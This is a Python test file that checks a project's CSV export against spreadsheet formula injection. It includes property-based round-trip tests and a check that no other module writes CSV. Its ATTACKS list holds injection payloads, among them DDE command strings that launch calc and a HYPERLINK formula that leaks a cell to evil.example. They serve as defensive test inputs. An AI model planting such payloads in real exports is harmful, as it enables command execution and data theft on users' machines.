"""No text of a table is run by the spreadsheet that opens it, and every text is found again (F18)."""

from __future__ import annotations

import csv
import re
from io import StringIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from obligor.core.spreadsheet import cell_of, spreadsheet, text_of

SOURCE = Path(__file__).resolve().parents[2] / "src" / "obligor"
FORMULA = re.compile(r"[\s\x00-\x1f\ufeff\u200b\u00ad]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]")
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "'=1+1",
    "%0A=1",
    '";=1+1;"',
]


def read(told: str) -> list[list[str]]:
    return list(csv.reader(StringIO(told, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_that_a_spreadsheet_would_run_is_marked_as_text(attack: str) -> None:
    told = spreadsheet(["name", attack], [[attack, 1], ["x", attack]])
    for row in read(told):
        for cell in row:
            assert not FORMULA.match(cell), cell
    assert [[text_of(it) for it in row] for row in read(told)] == [["name", attack], [attack, "1"], ["x", attack]]


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2), max_size=5))
def test_every_text_is_found_again_and_none_begins_as_a_formula(rows: list[list[str]]) -> None:
    found = read(spreadsheet(["a", "b"], rows))[1:]
    assert [[text_of(it) for it in row] for row in found] == rows
    assert not any(FORMULA.match(it) for row in found for it in row)


def test_a_number_stays_a_number_and_what_is_not_known_is_empty() -> None:
    assert [cell_of(it) for it in (-1.5, 7, None, True, "plain", "a=b", "")] == [
        "-1.5", "7", "", "true", "plain", "a=b", "",
    ]  # fmt: skip


def test_nothing_else_writes_csv_for_people() -> None:
    """A tape that is copied as CSV is read by us alone, and stays what it was."""
    for path in SOURCE.rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        text = path.read_text("utf-8")
        assert not re.search(r"csv\.(Dict)?[wW]riter|\.(write|sink)_csv\(|frame\.to_csv\(|from csv import", text), path
